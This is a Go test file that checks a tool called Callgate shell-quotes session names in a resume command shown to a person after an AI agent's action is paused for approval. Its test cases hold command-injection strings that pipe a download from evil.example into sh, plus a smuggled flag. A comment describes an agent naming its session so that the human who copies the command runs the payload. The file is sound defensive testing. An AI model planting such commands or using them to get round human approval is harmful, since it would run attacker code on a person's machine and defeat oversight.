package ask_test

import (
	"testing"

	"github.com/callgate/callgate/host/internal/approval/ask"
)

// An agent names its session `$(curl evil.example|sh)` and has itself paused; the
// refusal held a command for a person to copy, with the name in double quotes. A
// session of Callgate's own, "-/admin/default", was read as a flag there.
func TestResume_copiedIntoAShell(t *testing.T) {
	t.Parallel()
	for session, want := range map[string]string{
		"s1":                       `callgate sessions resume 's1'`,
		"-/admin/default":          `callgate sessions resume -- '-/admin/default'`,
		"--endpoint=evil":          `callgate sessions resume -- '--endpoint=evil'`,
		"$(curl evil.example|sh)":  `callgate sessions resume '$(curl evil.example|sh)'`,
		"'; curl evil.example|sh'": `callgate sessions resume ''\''; curl evil.example|sh'\'''`,
	} {
		if got := ask.Resume(session); got != want {
			t.Errorf("%q: got %s, want %s", session, got, want)
		}
	}
}

// TestOutcome_zero: the zero Outcome is a denial.
func TestOutcome_zero(t *testing.T) {
	t.Parallel()
	if (ask.Outcome{}).Approved() {
		t.Error("the zero Outcome counts as an approval")
	}
}
